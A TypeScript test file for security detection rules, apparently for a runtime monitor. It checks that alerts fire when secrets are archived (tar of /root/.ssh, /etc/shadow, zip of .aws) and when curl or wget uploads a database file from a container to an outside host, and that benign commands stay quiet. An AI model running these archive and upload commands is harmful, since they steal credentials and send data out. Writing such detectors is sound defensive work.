import { testContent } from './support.ts';

testContent('collection.yaml', {
  'Secrets packed into an archive': {
    as: 'error collection T1560.001',
    fires: {
      'tar packs a folder of keys': (s) => s.start('/usr/bin/tar czf /tmp/x.tgz /root/.ssh'),
      'zip packs keys by a relative name': (s) => s.start('/usr/bin/zip -r out.zip .aws'),
      'tar packs the password hashes': (s) => s.start('/usr/bin/tar cf - /etc/passwd /etc/shadow'),
    },
    quiet: {
      'tar packs a project': (s) => s.start('/usr/bin/tar czf site.tgz ./site'),
      'the name only looks alike': (s) => s.start('/usr/bin/tar xzf my.sshfs.tar.gz /opt/app.kubernetes'),
      'ls lists the same folder': (s) => s.start('/usr/bin/ls /root/.ssh'),
    },
  },
  'Upload by a transfer tool in a container': {
    as: 'warning exfiltration T1048',
    fires: {
      'curl uploads a file': (s) => s.start('/usr/bin/curl -T /data/users.db https://example.org/', s.inside),
      'curl posts a file as a form': (s) =>
        s.start('/usr/bin/curl -F f=@/data/users.db https://example.org/', s.inside),
      'curl posts a file as its body': (s) =>
        s.start('/usr/bin/curl --data-binary @/data/users.db https://example.org/', s.inside),
      "busybox's wget posts a file": (s) =>
        s.start('wget --post-file=/data/users.db http://example.org/', s.inside, {}, '/bin/busybox'),
    },
    quiet: {
      'curl asks an API with JSON': (s) =>
        s.start(['/usr/bin/curl', '-d', '{"query":"x"}', 'http://search:9200/_search'], s.inside),
      'curl downloads': (s) => s.start('/usr/bin/curl -fsSL -o /srv/a https://example.org/a', s.inside),
      'the same on a host': (s) => s.start('/usr/bin/curl -T site.tgz https://example.org/'),
    },
  },
});
